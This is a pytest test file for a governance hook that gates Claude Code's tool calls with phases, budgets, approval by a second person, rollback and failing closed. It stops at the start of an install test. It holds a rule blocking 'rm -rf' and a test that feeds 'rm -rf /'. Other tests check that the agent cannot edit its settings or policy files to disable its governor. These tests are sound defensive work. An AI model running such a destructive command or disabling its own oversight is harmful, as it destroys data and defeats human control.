"""The Claude Code hook: decisions in PreToolUse, settlement in PostToolUse, failing closed, install."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conformance_scenarios import (
    ALLOWED,
    BLOCKED,
    PENDING,
    PRINCIPAL,
    SCENARIOS,
    FaultyStore,
    KernelPoint,
    Outcome,
    check_scenario,
    write_agent,
)

from corral import ConfigError
from corral.integrations import claude_code as cc
from corral.store import open_store

PYTHON = sys.executable


def event(name: str, tool: str, tool_input: dict[str, Any], tool_use: str, *, session: str = "s-1",
          cwd: str | None = None, **extra: Any) -> dict[str, Any]:
    body = {"session_id": session, "transcript_path": "/tmp/transcript.jsonl", "cwd": cwd or os.getcwd(),
            "hook_event_name": name, "tool_name": tool, "tool_input": tool_input, "tool_use_id": tool_use}
    body.update(extra)
    return body


def answer(result: cc.HookResult) -> dict[str, Any]:
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)["hookSpecificOutput"]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project with an agent file for Claude Code: budget, a rules file, phases on."""
    (tmp_path / "policy.rules").write_text(
        'BLOCK Bash WHEN arg.command MATCHES "*rm -rf*" BECAUSE "no recursive deletes"\n'
        'REQUIRE APPROVAL FOR Write WHEN arg.file_path MATCHES "*.env" BECAUSE "secrets need a human"\n',
        encoding="utf-8",
    )
    (tmp_path / "agent.yaml").write_text(
        "name: claude\n"
        "model: {provider: anthropic, id: claude-code}\n"
        "governance: {budget: 5.0, rules: policy.rules}\n"
        f"store: sqlite:///{tmp_path / 'corral.db'}\n",
        encoding="utf-8",
    )
    return tmp_path


def make_hook(project: Path, **kwargs: Any) -> cc.Hook:
    return cc.Hook(project / "agent.yaml", principal=PRINCIPAL, state=project / "state", **kwargs)


def kernel(project: Path, session: str = "s-1", **kwargs: Any) -> Any:
    """The session as a person's `corral phase` sees it: a governor built the way the hook builds it."""
    agent = cc.ClaudeCodeAgent(cc.load_facts(project / "agent.yaml"), state=project / "state", **kwargs)
    return agent.session(session, PRINCIPAL)


# ----------------------------------------------------------------------------------------- conformance


class HookPoint:
    """The conformance scenarios through the hook: PreToolUse decides; an allowed call 'runs' and is settled."""

    name = "claude-code hook"

    def __init__(self, root: Path) -> None:
        self.root = root
        self.store: Any = None

    def open(self, scenario: Any) -> None:
        self.dir = self.root / scenario.name
        self.agent = write_agent(self.dir)
        self.sid = f"cc-{scenario.name}"
        self.ran: list[str] = []
        self.uses = 0
        self.kernel_session()  # the session exists before the first event, as after `corral phase`

    def kernel_session(self) -> Any:
        agent = cc.ClaudeCodeAgent(cc.load_facts(self.agent), state=self.dir / "state")
        return agent.session(self.sid, PRINCIPAL)

    def call(self, tool: str, args: dict[str, Any]) -> Outcome:
        hook = cc.Hook(self.agent, principal=PRINCIPAL, state=self.dir / "state", store=self.store)
        self.uses += 1
        use = f"toolu_{self.uses}"
        result = hook.handle(event("PreToolUse", tool, args, use, session=self.sid, cwd=str(self.dir)))
        if result.exit_code != 0:
            return Outcome(BLOCKED, result.stderr, False)
        out = answer(result)
        decision = PENDING if result.verdict == "pending" else (
            {"allow": ALLOWED, "deny": BLOCKED, "ask": PENDING}[out["permissionDecision"]])
        if decision == ALLOWED:  # Claude Code runs the tool, then tells the hook
            self.ran.append(tool)
            post = hook.handle(event("PostToolUse", tool, args, use, session=self.sid, tool_response={"ok": True}))
            assert post.exit_code == 0, post.stderr
        return Outcome(decision, out["permissionDecisionReason"], decision == ALLOWED)

    def inject_fault(self) -> None:
        self.store = FaultyStore(open_store(f"sqlite:///{self.dir / 'corral.db'}"))

    def close(self) -> None:
        if self.store is not None:
            self.store.close()


@pytest.mark.parametrize("scenario", SCENARIOS, ids=[s.name for s in SCENARIOS])
def test_conformance_through_the_hook(tmp_path: Path, scenario: Any) -> None:
    check_scenario(HookPoint(tmp_path), scenario)


@pytest.mark.parametrize("scenario", SCENARIOS, ids=[s.name for s in SCENARIOS])
def test_conformance_reference_the_kernel_claude_code_matches(scenario: Any) -> None:
    played = check_scenario(KernelPoint(), scenario)
    assert played and all(not p.problems for p in played)


def test_conformance_budget_is_settled_in_the_store(tmp_path: Path) -> None:
    point = HookPoint(tmp_path)
    check_scenario(point, next(s for s in SCENARIOS if s.name == "budget_stop"))
    point.open(next(s for s in SCENARIOS if s.name == "budget_stop"))
    budget = point.kernel_session().budget
    assert (budget.spent, budget.reserved, budget.gate) == (1.0, 0.0, "stop")


# ------------------------------------------------------------------------------------------ decisions


def test_reads_are_allowed_and_writes_wait_for_the_commit_phase(project: Path) -> None:
    hook = make_hook(project)
    out = answer(hook.handle(event("PreToolUse", "Read", {"file_path": str(project / "agent.yaml")}, "t1")))
    assert out["permissionDecision"] == "allow" and "trace" in out["permissionDecisionReason"]
    out = answer(hook.handle(event("PreToolUse", "Edit", {"file_path": str(project / "x.py"), "old_string": "a",
                                                          "new_string": "b"}, "t2")))
    assert out["permissionDecision"] == "deny"
    reason = out["permissionDecisionReason"]
    assert "not allowed in explore" in reason and "corral phase s-1 decide" in reason and "trace" in reason
    out = answer(hook.handle(event("PreToolUse", "Bash", {"command": "ls"}, "t3")))
    assert out["permissionDecision"] == "deny" and "irreversible" in out["permissionDecisionReason"]
    traces = kernel(project).traces
    assert [(t.tool, t.effect, t.decision) for t in traces] == [
        ("Read", "read", "allowed"), ("Edit", "reversible", "blocked"), ("Bash", "irreversible", "blocked")]
    assert traces[0].claude_code["tool_use_id"] == "t1"


def test_the_session_is_claude_codes_session_with_the_principal(project: Path) -> None:
    make_hook(project).handle(event("PreToolUse", "Grep", {"pattern": "x"}, "t1", session="cc-session-42"))
    s = kernel(project, "cc-session-42")
    assert s.id == "cc-session-42" and s.principal == PRINCIPAL and s.phase == "explore"
    record = s.governor.store.get_session("cc-session-42")
    assert record["claude_code"]["transcript_path"] == "/tmp/transcript.jsonl"


def test_rules_see_claude_codes_arguments(project: Path) -> None:
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    out = answer(hook.handle(event("PreToolUse", "Bash", {"command": "rm -rf /"}, "t1")))
    assert out["permissionDecision"] == "deny" and "no recursive deletes" in out["permissionDecisionReason"]
    out = answer(hook.handle(event("PreToolUse", "Bash", {"command": "pytest -q"}, "t2")))
    assert out["permissionDecision"] == "allow"


def test_approval_holds_the_call_for_another_person_by_default(project: Path) -> None:
    """Four eyes (DESIGN §12): the hook denies, naming the pending approval and how to decide it; the
    session's own principal cannot approve it; once another person does, the same call retried runs once."""
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    write = {"file_path": str(project / "app.env"), "content": "K=1"}
    held = hook.handle(event("PreToolUse", "Write", write, "t1"))
    out = answer(held)
    assert out["permissionDecision"] == "deny" and held.verdict == "pending"
    [request] = s.governor.pending_approvals(session="s-1")
    reason = out["permissionDecisionReason"]
    assert request.id in reason and f"corral approvals approve {request.id}" in reason
    assert "secrets need a human" in reason and f"other than {PRINCIPAL}" in reason
    again = hook.handle(event("PreToolUse", "Write", write, "t2"))  # the same request, not a second one
    assert again.verdict == "pending" and len(s.governor.pending_approvals(session="s-1")) == 1
    with pytest.raises(ConfigError, match="cannot approve their own"):
        s.governor.approve(request.id, PRINCIPAL.upper())
    s.governor.approve(request.id, "bob")
    out = answer(hook.handle(event("PreToolUse", "Write", write, "t3")))
    assert out["permissionDecision"] == "allow" and "approved" in out["permissionDecisionReason"]
    assert hook.handle(event("PreToolUse", "Write", write, "t4")).verdict == "pending"  # once


def test_self_approve_asks_and_a_yes_at_the_prompt_is_recorded(project: Path) -> None:
    agent = project / "agent.yaml"
    agent.write_text(agent.read_text(encoding="utf-8").replace(
        "governance: {budget: 5.0, rules: policy.rules}",
        "governance: {budget: 5.0, rules: policy.rules, approvals: {self_approve: true}}"), encoding="utf-8")
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    target = project / "app.env"
    out = answer(hook.handle(event("PreToolUse", "Write", {"file_path": str(target), "content": "K=1"}, "t1")))
    assert out["permissionDecision"] == "ask"
    pending = s.governor.pending_approvals(session="s-1")
    assert len(pending) == 1 and pending[0].id in out["permissionDecisionReason"]
    assert "secrets need a human" in out["permissionDecisionReason"]
    # the person said yes at Claude Code's prompt: Claude Code wrote the file and reports it
    target.write_text("K=1", encoding="utf-8")
    post = hook.handle(event("PostToolUse", "Write", {"file_path": str(target), "content": "K=1"}, "t1",
                             tool_response={"type": "create"}))
    assert post.exit_code == 0, post.stderr
    approval = s.governor.store.get_approval(pending[0].id)
    assert approval["status"] == "used" and approval["approved"] is True and "Claude Code prompt" in approval["approver"]
    trace = [t for t in kernel(project).traces if t.tool == "Write"][-1]
    assert trace.decision == "pending" and trace.outcome["status"] == "ok"
    assert "permission prompt" in trace.outcome["note"]


@pytest.mark.parametrize("name", ["settings.json", "settings.local.json"])
def test_the_agent_cannot_edit_claude_codes_settings_to_switch_its_governor_off(project: Path, name: str) -> None:
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    settings = project / ".claude" / name
    for tool, tool_input in (("Write", {"file_path": str(settings), "content": "{}"}),
                             ("Edit", {"file_path": f".claude/{name}", "old_string": "corral", "new_string": ""})):
        out = answer(hook.handle(event("PreToolUse", tool, tool_input, f"t-{tool}", cwd=str(project))))
        assert out["permissionDecision"] == "deny", out
        assert "corral's own policy or state" in out["permissionDecisionReason"]
    assert [t.decision for t in kernel(project).traces if t.tool in ("Write", "Edit")] == ["blocked", "blocked"]


def test_allowed_tools_limits_what_claude_code_may_call(project: Path) -> None:
    text = (project / "agent.yaml").read_text(encoding="utf-8")
    (project / "agent.yaml").write_text(text + "allowed_tools: [Read, Grep, 'mcp__docs__*']\n", encoding="utf-8")
    hook = make_hook(project)
    assert answer(hook.handle(event("PreToolUse", "Read", {"file_path": "/x"}, "t1")))["permissionDecision"] == "allow"
    out = answer(hook.handle(event("PreToolUse", "WebFetch", {"url": "http://x"}, "t2")))
    assert out["permissionDecision"] == "deny" and "unknown tool 'WebFetch'" in out["permissionDecisionReason"]
    out = answer(hook.handle(event("PreToolUse", "mcp__docs__search", {"q": "x"}, "t3")))
    assert out["permissionDecision"] == "deny" and "irreversible" in out["permissionDecisionReason"]


def test_the_agents_own_policy_and_records_are_off_limits(project: Path) -> None:
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    for i, path in enumerate([project / "agent.yaml", project / "policy.rules", project / "corral.db",
                              project / "state" / "snapshots" / "x.json"]):
        out = answer(hook.handle(event("PreToolUse", "Write", {"file_path": str(path), "content": ""}, f"t{i}")))
        assert out["permissionDecision"] == "deny", path
        assert "corral's own policy or state" in out["permissionDecisionReason"]
    assert answer(hook.handle(event("PreToolUse", "Write", {"file_path": str(project / "ok.txt"), "content": ""},
                                    "t9")))["permissionDecision"] == "allow"
    blocked = [t for t in kernel(project).traces if t.decision == "blocked"]
    assert len(blocked) == 4 and all(t.checks[0]["check"] == "protect" for t in blocked)


# --------------------------------------------------------------------------------- effects of tools


def facts(tmp_path: Path, extra: str = "") -> cc.AgentFacts:
    (tmp_path / "agent.yaml").write_text(
        "name: fx\nmodel: {provider: anthropic, id: claude-code}\n" + extra, encoding="utf-8")
    return cc.load_facts(tmp_path / "agent.yaml")


def test_claude_code_tools_map_to_effects(tmp_path: Path) -> None:
    f = facts(tmp_path)
    snaps = cc.FileSnapshots(tmp_path / "snaps")
    effects = {name: cc.declare_tool(name, f, snaps).effect
               for name in ("Read", "Grep", "Glob", "LS", "WebSearch", "WebFetch", "TodoWrite", "Edit", "Write",
                            "MultiEdit", "NotebookEdit", "Bash", "mcp__github__create_issue", "SomethingNew")}
    assert effects == {"Read": "read", "Grep": "read", "Glob": "read", "LS": "read", "WebSearch": "read",
                       "WebFetch": "read", "TodoWrite": "read", "Edit": "reversible", "Write": "reversible",
                       "MultiEdit": "reversible", "NotebookEdit": "reversible", "Bash": "irreversible",
                       "mcp__github__create_issue": "irreversible", "SomethingNew": "irreversible"}
    edit = cc.declare_tool("Edit", f, snaps)
    assert edit.options["compensate"] == snaps.restore and edit.options["compensate_unknown"] is True


def test_the_agent_file_overrides_effects(tmp_path: Path) -> None:
    f = facts(tmp_path, (
        "tools:\n"
        "  - builtin: shell\n    effect: read\n"
        "  - mcp: {command: [srv]}\n    prefix: github\n    effects: {list_issues: read, create_issue: irreversible}\n"
        "    cost: {create_issue: 0.25}\n"
        "  - mcp: {url: 'http://x'}\n    effects: {lookup: read}\n"
    ))
    assert cc.declare_tool("Bash", f).effect == "read"
    assert cc.declare_tool("mcp__github__list_issues", f).effect == "read"
    created = cc.declare_tool("mcp__github__create_issue", f)
    assert (created.effect, created.options["cost"]) == ("irreversible", 0.25)
    assert cc.declare_tool("mcp__github__delete_repo", f).effect == "irreversible"  # undeclared
    assert cc.declare_tool("mcp__other__lookup", f).effect == "read"  # the one entry that names it
    f = facts(tmp_path, "tools:\n  - builtin: files\n    effect: irreversible\n")
    assert cc.declare_tool("Edit", f).effect == "irreversible" and cc.declare_tool("Edit", f).options == {}


def test_a_reversible_tool_without_compensation_refuses_every_call(project: Path) -> None:
    text = (project / "agent.yaml").read_text(encoding="utf-8")
    (project / "agent.yaml").write_text(text + "tools:\n  - builtin: shell\n    effect: reversible\n",
                                        encoding="utf-8")
    result = make_hook(project).handle(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))
    assert result.exit_code == 2 and "Bash" in result.stderr and "compensation" in result.stderr


def test_facts_are_cached_and_follow_the_file(tmp_path: Path) -> None:
    state = tmp_path / "state"
    f = facts(tmp_path, "governance: {budget: 2.0}\n")
    first = cc.load_facts(tmp_path / "agent.yaml", state)
    assert first == f and list((state / "agents").iterdir())
    (tmp_path / "agent.yaml").write_text("name: fx\nmodel: {provider: anthropic, id: x}\ngovernance: {budget: 3.0}\n",
                                         encoding="utf-8")
    assert cc.load_facts(tmp_path / "agent.yaml", state).budget == 3.0


def test_facts_build_the_governor_the_harness_would(tmp_path: Path) -> None:
    from corral.harness.config import load_agent
    from corral.harness.runtime import governor_from_config

    (tmp_path / "p.rules").write_text("FLAG * WHEN effect IS irreversible\n", encoding="utf-8")
    facts(tmp_path, (
        "governance:\n  budget: {session: 2.0, agent: 50}\n  gates: {degrade: 0.4, force_decide: 0.7, stop: 0.9}\n"
        "  rules: p.rules\n  approvals: {timeout: 5m, allow_self_approval: true}\n  audit: {redact: [password]}\n"
        "  tenant: acme\nphases: false\nstore: memory://\n"))
    config = load_agent(tmp_path / "agent.yaml", check=False)
    ours, theirs = cc.AgentFacts.from_config(config).governor(), governor_from_config(config)
    for attribute in ("agent", "tenant", "limits", "gates", "phases", "approval_ttl", "allow_self_approval",
                      "redact_names", "policy_sha256"):
        assert getattr(ours, attribute) == getattr(theirs, attribute), attribute


# ------------------------------------------------------------------------------ commit, undo, recovery


def test_an_edit_in_commit_is_a_step_that_rollback_undoes(project: Path) -> None:
    target = project / "code.py"
    target.write_text("x = 1\n", encoding="utf-8")
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    edit = {"file_path": str(target), "old_string": "x = 1", "new_string": "x = 2"}
    assert answer(hook.handle(event("PreToolUse", "Edit", edit, "t1")))["permissionDecision"] == "allow"
    target.write_text("x = 2\n", encoding="utf-8")  # Claude Code edits the file
    assert hook.handle(event("PostToolUse", "Edit", edit, "t1", tool_response={"filePath": str(target)})).exit_code == 0
    new = project / "new.py"
    assert answer(hook.handle(event("PreToolUse", "Write", {"file_path": str(new), "content": "y"}, "t2"))
                  )["permissionDecision"] == "allow"
    new.write_text("y", encoding="utf-8")
    hook.handle(event("PostToolUse", "Write", {"file_path": str(new), "content": "y"}, "t2", tool_response={}))
    s = kernel(project)
    assert [step.status for step in s.open_transaction.steps] == ["DONE", "DONE"]
    with pytest.raises(Exception, match="rolled back"):
        s.end_commit(RuntimeError("the person changed their mind"))
    assert target.read_text(encoding="utf-8") == "x = 1\n" and not new.exists()
    assert [t.outcome["status"] for t in kernel(project).traces if t.kind == "call"] == ["compensated", "compensated"]


def test_a_commit_left_open_is_rolled_back_once_its_lease_lapses(project: Path) -> None:
    target = project / "code.py"
    target.write_text("old", encoding="utf-8")
    s = kernel(project)
    s.back_to("decide")
    tx = s.begin_commit()
    hook = make_hook(project)
    edit = {"file_path": str(target), "old_string": "old", "new_string": "new"}
    answer(hook.handle(event("PreToolUse", "Edit", edit, "t1")))
    target.write_text("new", encoding="utf-8")
    hook.handle(event("PostToolUse", "Edit", edit, "t1", tool_response={}))
    owner = s.governor.store.get_transaction(tx.id)["owner"]
    assert owner["kind"] == "claude-code-session"
    soon = kernel(project).governor.recover()  # the session owns it: recovery leaves it alone
    assert not soon.transactions and target.read_text(encoding="utf-8") == "new"
    later = datetime.now(UTC) + timedelta(seconds=cc.LEASE_SECONDS + 60)
    report = kernel(project, clock=lambda: later).governor.recover()
    assert [t.state for t in report.transactions] == ["rolled_back"]
    assert target.read_text(encoding="utf-8") == "old"


def test_an_edit_whose_file_cannot_be_snapshotted_is_refused(project: Path) -> None:
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    (project / "state").mkdir(exist_ok=True)
    (project / "state" / "snapshots").write_text("a file where the snapshot folder goes", encoding="utf-8")
    edit = {"file_path": str(project / "code.py"), "old_string": "a", "new_string": "b"}
    out = answer(make_hook(project).handle(event("PreToolUse", "Edit", edit, "t1")))
    assert out["permissionDecision"] == "deny" and "before Edit could run" in out["permissionDecisionReason"]
    s = kernel(project)
    assert s.open_transaction.steps == [] and [t.decision for t in s.traces] == ["blocked"]


def test_holding_for_approval_does_not_pin_the_commit_against_recovery(project: Path) -> None:
    s = kernel(project)
    s.back_to("decide")
    tx = s.begin_commit()
    hook = make_hook(project)
    write = {"file_path": str(project / "app.env"), "content": "K=1"}
    assert hook.handle(event("PreToolUse", "Write", write, "t1")).verdict == "pending"
    assert not s.governor.store.get_transaction(tx.id).get("paused_for")  # the session's lease owns it
    later = datetime.now(UTC) + timedelta(seconds=cc.LEASE_SECONDS + 60)
    report = kernel(project, clock=lambda: later).governor.recover()
    assert [t.id for t in report.transactions] == [tx.id]


def test_plan_steps_are_used_up_across_hook_processes(project: Path) -> None:
    s = kernel(project)
    s.back_to("decide")
    s.propose([{"tool": "Bash", "args": {"command": "make deploy", "description": "*"}}])
    s.begin_commit(s.plan)
    (project / "policy.rules").write_text("REQUIRE PLAN\n", encoding="utf-8")
    hook = make_hook(project)
    deploy = {"command": "make deploy", "description": "deploy"}
    assert answer(hook.handle(event("PreToolUse", "Bash", deploy, "t1")))["permissionDecision"] == "allow"
    out = answer(hook.handle(event("PreToolUse", "Bash", deploy, "t2")))
    assert out["permissionDecision"] == "deny" and "not in plan" in out["permissionDecisionReason"]


def test_parallel_hooks_use_a_plan_step_once(project: Path) -> None:
    """Claude Code may run tools in parallel: one hook process per call, all at once, one plan step."""
    s = kernel(project)
    s.back_to("decide")
    s.propose([{"tool": "Bash", "args": {"command": "make deploy", "description": "*"}}])
    s.begin_commit(s.plan)
    (project / "policy.rules").write_text("REQUIRE PLAN\n", encoding="utf-8")
    cc.load_facts(project / "agent.yaml", project / "state")
    runs = [subprocess.Popen([PYTHON, "-m", "corral.integrations.claude_code", "--agent", str(project / "agent.yaml")],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                             cwd=project, env={**os.environ, "CORRAL_CLAUDE_CODE_DIR": str(project / "state")})
            for _ in range(4)]
    deploy = {"command": "make deploy", "description": "deploy"}
    for i, proc in enumerate(runs):  # every process has its event before any of them is read
        assert proc.stdin is not None
        proc.stdin.write(json.dumps(event("PreToolUse", "Bash", deploy, f"t{i}")))
        proc.stdin.close()
    answers = []
    for proc in runs:
        assert proc.stdout is not None and proc.stderr is not None
        out, err = proc.stdout.read(), proc.stderr.read()
        assert proc.wait(timeout=60) == 0, err
        answers.append(json.loads(out)["hookSpecificOutput"]["permissionDecision"])
    assert sorted(answers) == ["allow", "deny", "deny", "deny"]


def test_a_hook_waits_for_the_session_and_gives_up_at_its_deadline(project: Path) -> None:
    import time

    env = {**os.environ, "CORRAL_CLAUDE_CODE_DIR": str(project / "state")}
    body = json.dumps(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))

    def start(*extra: str) -> subprocess.Popen[str]:
        proc = subprocess.Popen([PYTHON, "-m", "corral.integrations.claude_code", "--agent",
                                 str(project / "agent.yaml"), *extra], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, cwd=project, env=env)
        assert proc.stdin is not None
        proc.stdin.write(body)
        proc.stdin.close()
        return proc

    kernel(project)  # the store exists and is migrated: the race below is for the session, not the schema
    with cc.session_lock(project / "state", "s-1"):  # another hook of this session is deciding
        waiting = start()
        impatient = start("--timeout", "1.5")
        assert impatient.wait(timeout=60) == 2
        assert impatient.stderr is not None and "did not decide within 1.5s" in impatient.stderr.read()
        time.sleep(0.3)
        assert waiting.poll() is None
    assert waiting.wait(timeout=60) == 0
    assert waiting.stdout is not None and '"allow"' in waiting.stdout.read()


def test_a_failed_tool_settles_at_zero_and_logs_the_step_failed(project: Path) -> None:
    text = (project / "agent.yaml").read_text(encoding="utf-8")
    (project / "agent.yaml").write_text(
        text + "tools:\n  - mcp: {command: [srv]}\n    prefix: shop\n    effects: {buy: irreversible}\n"
               "    cost: {buy: 1.5}\n", encoding="utf-8")
    s = kernel(project)
    s.back_to("decide")
    s.begin_commit()
    hook = make_hook(project)
    assert answer(hook.handle(event("PreToolUse", "mcp__shop__buy", {"item": "x"}, "t1")))["permissionDecision"] == "allow"
    assert kernel(project).budget.reserved == 1.5
    failure = event("PostToolUseFailure", "mcp__shop__buy", {"item": "x"}, "t1", error="out of stock")
    assert hook.handle(failure).exit_code == 0
    s = kernel(project)
    assert (s.budget.spent, s.budget.reserved) == (0.0, 0.0)
    trace = [t for t in s.traces if t.tool == "mcp__shop__buy"][-1]
    assert trace.outcome == {"status": "error", "cost": 0.0, "duration_ms": None, "error": "out of stock"}
    assert [e["status"] for e in s.governor.store.steps(trace.tx)] == ["INTENT", "FAILED"]
    assert answer(hook.handle(event("PreToolUse", "mcp__shop__buy", {"item": "y"}, "t2")))["permissionDecision"] == "allow"
    assert hook.handle(event("PostToolUse", "mcp__shop__buy", {"item": "y"}, "t2",
                             tool_response={"isError": False, "content": []})).exit_code == 0
    assert kernel(project).budget.spent == 1.5


def test_post_is_idempotent_and_an_ungoverned_call_is_flagged(project: Path) -> None:
    hook = make_hook(project)
    hook.handle(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))
    assert hook.handle(event("PostToolUse", "Read", {"file_path": "/x"}, "t1", tool_response={})).exit_code == 0
    assert hook.handle(event("PostToolUse", "Read", {"file_path": "/x"}, "t1", tool_response={})).exit_code == 0
    outcomes = [r for r in open_store(f"sqlite:///{project / 'corral.db'}").records("s-1") if r["kind"] == "outcome"]
    assert len(outcomes) == 1
    stray = hook.handle(event("PostToolUse", "Bash", {"command": "ls"}, "never-decided"))
    assert stray.exit_code == 2 and "not governed" in stray.stderr
    assert [t.kind for t in kernel(project).traces][-1] == "unmatched"


# -------------------------------------------------------------------------------------- fail closed


@pytest.mark.parametrize("text, message", [
    ("not json", "not JSON"),
    ("[1, 2]", "not an object"),
    ('{"hook_event_name": "PreToolUse", "tool_name": "Read", "tool_input": {}, "tool_use_id": "t"}', "session_id"),
    ('{"hook_event_name": "PreToolUse", "session_id": "s", "tool_input": {}, "tool_use_id": "t"}', "tool_name"),
    ('{"hook_event_name": "PreToolUse", "session_id": "s", "tool_name": "Read", "tool_use_id": "t"}', "tool_input"),
    ('{"hook_event_name": "PreToolUse", "session_id": "s", "tool_name": "Read", "tool_input": {}}', "tool_use_id"),
    ('{"hook_event_name": "Stop", "session_id": "s", "tool_name": "Read", "tool_input": {}, "tool_use_id": "t"}',
     "hook_event_name"),
])
def test_bad_input_refuses_with_exit_2(project: Path, text: str, message: str) -> None:
    result = make_hook(project).handle_text(text)
    assert result.exit_code == 2 and result.decision == "deny" and message in result.stderr and not result.stdout


def test_faults_refuse_with_exit_2(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    pre = event("PreToolUse", "Read", {"file_path": "/x"}, "t1")
    missing = cc.Hook(project / "nope.yaml", state=project / "state").handle(pre)
    assert missing.exit_code == 2 and "nope.yaml" in missing.stderr
    blocker = tmp_path_factory.mktemp("ro") / "file"
    blocker.write_text("", encoding="utf-8")
    down = make_hook(project, store=f"sqlite:///{blocker}/corral.db").handle(pre)  # a file where a folder must be
    assert down.exit_code == 2 and "refused" in down.stderr
    (project / "policy.rules").write_text("BLOCK WHEN WHEN\n", encoding="utf-8")
    broken = make_hook(project).handle(pre)
    assert broken.exit_code == 2 and "policy.rules" in broken.stderr


def test_a_decision_that_cannot_be_stored_is_refused(project: Path) -> None:
    class Unwritable(FaultyStore):
        def append(self, *args: Any, **kwargs: Any) -> Any:
            raise OSError("disk full")

        def batch(self, ops: Any) -> Any:
            raise OSError("disk full")

    store = Unwritable(open_store(f"sqlite:///{project / 'corral.db'}"))
    out = answer(make_hook(project, store=store).handle(event("PreToolUse", "Read", {"file_path": "/x"}, "t1")))
    assert out["permissionDecision"] == "deny" and "could not be stored" in out["permissionDecisionReason"]


# ----------------------------------------------------------------------------------- the real process


def run_hook(project: Path, body: dict[str, Any] | str, *extra: str, module: bool = True,
             env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    args = ([PYTHON, "-m", "corral.integrations.claude_code"] if module
            else [PYTHON, "-c", "from corral.cli.hook import hook; hook()", "claude-code"])
    text = body if isinstance(body, str) else json.dumps(body)
    return subprocess.run([*args, "--agent", str(project / "agent.yaml"), *extra], input=text, text=True,
                          capture_output=True, cwd=project, env={**os.environ, **(env or {})}, timeout=60)


def test_the_hook_process_answers_and_settles(project: Path) -> None:
    pre = run_hook(project, event("PreToolUse", "Glob", {"pattern": "*.py"}, "t1", cwd=str(project)))
    assert pre.returncode == 0, pre.stderr
    assert json.loads(pre.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
    post = run_hook(project, event("PostToolUse", "Glob", {"pattern": "*.py"}, "t1", tool_response=["a.py"]),
                    module=False)
    assert post.returncode == 0 and post.stdout == "", post.stderr
    [trace] = kernel(project).traces
    assert trace.decision == "allowed" and trace.outcome["status"] == "ok"


def test_the_hook_process_fails_closed(project: Path) -> None:
    bad = run_hook(project, "{not json")
    assert bad.returncode == 2 and "not JSON" in bad.stderr and bad.stdout == ""
    late = run_hook(project, event("PreToolUse", "Read", {"file_path": "/x"}, "t1"), "--timeout", "0.001")
    assert late.returncode == 2 and "did not decide within" in late.stderr
    gone = run_hook(project, event("PreToolUse", "Read", {"file_path": "/x"}, "t1"), "--store", "postgresql://nobody@127.0.0.1:1/corral")
    assert gone.returncode == 2 and "refused" in gone.stderr and gone.stdout == ""


def test_the_project_dir_anchors_relative_paths(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    text = (project / "agent.yaml").read_text(encoding="utf-8").replace(f"sqlite:///{project / 'corral.db'}",
                                                                         "sqlite:///.corral/corral.db")
    (project / "agent.yaml").write_text(text, encoding="utf-8")
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    result = subprocess.run(
        [PYTHON, "-m", "corral.integrations.claude_code", "--agent", str(project / "agent.yaml")],
        input=json.dumps(event("PreToolUse", "Read", {"file_path": "/x"}, "t1")), text=True, capture_output=True,
        cwd=elsewhere, env={**os.environ, "CLAUDE_PROJECT_DIR": str(project)}, timeout=60)
    assert result.returncode == 0, result.stderr
    assert (project / ".corral" / "corral.db").exists() and not (elsewhere / ".corral").exists()


def test_a_cached_decision_imports_neither_pydantic_nor_the_harness(project: Path) -> None:
    """The hook's latency budget: after the first call, no pydantic; a PostToolUse compiles no rules."""
    probe = (
        "import io, json, sys\n"
        "from corral.integrations import claude_code as cc\n"
        "ev = json.loads(sys.argv[2])\n"
        "code = cc.run(sys.argv[1], stdin=io.StringIO(json.dumps(ev)), stdout=io.StringIO(), timeout=30)\n"
        "print(json.dumps({'code': code, 'pydantic': 'pydantic' in sys.modules,\n"
        "                  'harness': 'corral.harness.config' in sys.modules,\n"
        "                  'rules': 'corral.governance.rules' in sys.modules}))\n"
    )

    def probe_run(body: dict[str, Any]) -> dict[str, Any]:
        done = subprocess.run([PYTHON, "-c", probe, str(project / "agent.yaml"), json.dumps(body)], cwd=project,
                              capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    first = probe_run(event("PreToolUse", "Read", {"file_path": "/x"}, "t1"))
    assert first["code"] == 0 and first["pydantic"]  # validates the agent file once
    cached = probe_run(event("PreToolUse", "Read", {"file_path": "/x"}, "t2"))
    assert cached == {"code": 0, "pydantic": False, "harness": False, "rules": True}
    settle = probe_run(event("PostToolUse", "Read", {"file_path": "/x"}, "t2", tool_response={}))
    assert settle == {"code": 0, "pydantic": False, "harness": False, "rules": False}


def test_hook_latency_stays_interactive(project: Path) -> None:
    import statistics
    import time

    body = event("PreToolUse", "Read", {"file_path": "/x"}, "warm", cwd=str(project))
    run_hook(project, body)
    times = []
    for i in range(7):
        body["tool_use_id"] = f"t{i}"
        started = time.perf_counter()
        done = run_hook(project, body)
        times.append(time.perf_counter() - started)
        assert done.returncode == 0
    # ~140 ms p50 on an idle 2-core machine (see the integration notes); this bound catches regressions
    # such as importing pydantic or a provider SDK on every call, without failing on a busy CI box.
    assert statistics.median(times) < 1.0


# ------------------------------------------------------------------------------------------- install


def test_install_writes_the_nested_hooks_form(tmp_path: Path) -> None:
